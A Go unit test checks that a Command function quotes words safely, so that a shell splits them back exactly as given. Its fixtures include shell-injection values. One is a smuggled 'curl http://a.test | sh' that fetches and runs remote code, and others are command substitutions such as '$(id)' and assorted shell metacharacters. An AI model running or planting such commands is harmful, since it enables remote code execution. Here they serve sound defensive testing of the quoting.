// SPDX-License-Identifier: Apache-2.0

package report

import (
	"os/exec"
	"slices"
	"strings"
	"testing"
)

// TestCommand has a shell split command lines into the words that they were made of.
func TestCommand(t *testing.T) {
	t.Parallel()
	for _, words := range [][]string{
		{"kubectl", "-n", "capture-cni", "logs", "agent-x7k2p", "-c", "installer"},
		{"helm", "--set", "image.tag=", "--set", "netconf.backend=auto"},
		{""},
		{"a", "", "b"},
		{"x deploy/chart; curl http://a.test | sh"},
		{"it's", "'", "''", `'\''`},
		{"$(id)", "`id`", "${HOME}", "~", "~root", "*", "?", "[a]", "{a,b}", "#", "a #b", "!", "!!", "=cat"},
		{"a\nb", "a\tb", "a\rb", "a\x1b[31mb", "a\\", "\\", "&", "&&", "|", ";", "<", ">", "(", "\"", "é", "\u202e", "\xff"},
	} {
		line := Command(words...)
		out, err := exec.CommandContext(t.Context(), "sh", "-c", `printf '%s\0' `+line).Output()
		if got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00"); err != nil || !slices.Equal(got, words) {
			t.Errorf("%q became %s: a shell reads %q (%v)", words, line, got, err)
		}
	}
	for words, want := range map[string]string{
		"kubectl -n mesh describe pod agent-1": "kubectl -n mesh describe pod agent-1",
		"a;b":                                  "'a;b'",
		"pod-security.kubernetes.io/enforce=privileged": "pod-security.kubernetes.io/enforce=privileged",
	} {
		if got := Command(strings.Fields(words)...); got != want {
			t.Errorf("%q became %s, want %s", words, got, want)
		}
	}
}
